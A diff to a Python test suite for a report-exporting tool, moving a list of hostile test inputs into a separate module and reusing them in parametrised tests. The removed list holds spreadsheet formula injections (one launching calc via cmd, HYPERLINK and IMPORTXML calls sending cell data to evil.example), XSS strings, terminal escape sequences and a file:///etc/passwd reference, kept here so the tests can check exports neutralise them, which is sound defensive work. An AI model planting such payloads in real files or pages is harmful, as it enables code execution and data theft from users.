@@ -3,9 +3,11 @@
 import csv
 import io
 import re
+import sys
 from collections import Counter
 from dataclasses import replace
 from html.parser import HTMLParser
+from pathlib import Path
 
 import openpyxl
 import pyarrow.parquet as pq
@@ -16,6 +18,7 @@ from matcher.model.run import Failure, Status
 from matcher.model.scorecard import GateState
 from matcher.reports.exports import csv_bytes, parquet_bytes
 from matcher.reports.html import html_bytes
+from matcher.reports.summary import render_failures
 from matcher.reports.tables import (
     candidates_table,
     evidence_table,
@@ -25,64 +28,17 @@ from matcher.reports.tables import (
 )
 from matcher.reports.terminal import (
     render_explanation,
-    render_failures,
     render_ranking,
     render_reasons,
 )
 from matcher.reports.xlsx import xlsx_bytes
 
-PAYLOADS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+SUM(1,1)",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\uff1d1+1",
-    "\uff0bcmd",
-    "\uff0d1",
-    "\uff20SUM(A1)",
-    "\u200b=1+1",
-    '=HYPERLINK("https://evil.example?x="&A1,"open")',
-    '=IMPORTXML("https://evil.example","//a")',
-    "x;=1+1",
-    'x";=1+1;"',
-    'a","=1+1","b',
-    "{=1+1}",
-    "https://evil.example/track",
-    "file:///etc/passwd",
-    "mailto:evil@example.org",
-    "internal:'Method'!A1",
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' autofocus onfocus='alert(1)",
-    "</style><svg onload=alert(1)>",
-    "</td></tr></table><iframe src=//evil.example>",
-    "javascript:alert(1)",
-    "{{ 7 * 7 }}{% raw %}",
-    "<!--",
-    "]]>",
-    "&lt;b&gt;",
-    "\x1b[31mred\x1b[0m",
-    "\x1b]0;title\x07",
-    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "\x9b2J",
-    "\x1bc",
-    "over\rwritten\x08\x08",
-    "resume\u202efdp.exe",
-    "a\u2066b\u2069",
-    "null\x00byte",
-    "[link=https://evil.example]x[/link]",
-    "[bold red]markup[/]",
-    ":skull:",
-    "caf\udce9.pdf",
-    "\ufffe\uffff",
-]
+sys.path.append(str(Path(__file__).parents[2] / "robustness"))  # the table of payloads is there
+
+from payloads import PAYLOADS as BY_AIM
+
+PAYLOADS = [pytest.param(payload, id=what) for what, payload in BY_AIM.items()]
+ENCODABLE = [param for param in PAYLOADS if not re.search("[\ud800-\udfff]", *param.values)]
 LIVE = re.compile("\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
 UNPRINTABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
@@ -197,7 +153,7 @@ def test_the_terminal_gets_no_escape_sequence(infect, payload):
     assert not UNPRINTABLE.search(console.file.getvalue())
 
 
-@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "\udce9" not in text])
+@pytest.mark.parametrize("payload", ENCODABLE)
 def test_parquet_keeps_the_literal_text(infect, payload):
     table = pq.read_table(io.BytesIO(parquet_bytes(evidence_table(infect(payload)))))
     assert set(table.column("quote").to_pylist()) == {payload}
